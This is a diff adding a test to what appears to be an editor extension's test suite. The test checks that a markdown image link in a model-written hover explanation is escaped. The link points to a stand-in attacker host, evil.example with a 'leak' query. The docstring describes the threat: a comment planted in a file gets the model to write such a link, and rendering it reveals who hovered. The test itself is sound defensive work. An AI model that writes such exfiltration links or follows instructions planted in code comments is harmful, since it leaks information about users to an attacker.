@@ -188,6 +188,24 @@ async def test_what_the_model_is_sure_of_has_no_mark(extension: Client, workspac
     assert told.markdown == "It splits a header."
 
 
+async def test_no_hover_loads_an_image_that_a_model_names(
+    plain: Client, extension: Client, workspace: Path
+) -> None:
+    """A comment of the file can have the model write one, and an editor that draws it tells who hovers."""
+    said = "It splits `a[0](b)`. ![x](https://evil.example/?leak)"
+    uri = plain.open(workspace / "a.py", PARSE)
+    extension.open(workspace / "a.py", PARSE)
+    await plain.script([said])
+    await extension.script([said])
+
+    while "It splits" not in (shown := await hover(plain, uri)):
+        await asyncio.sleep(0.02)
+    told = await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri))
+
+    assert told.markdown == "It splits `a[0](b)`. !&#91;x&#93;(https://evil.example/?leak)"
+    assert told.markdown in shown
+
+
 async def test_a_hover_of_a_plain_client_starts_the_engine_once(plain: Client, workspace: Path) -> None:
     """Until an action had been run, `K` in Neovim gave the signature alone, for ever."""
     uri = plain.open(workspace / "a.py", PARSE)
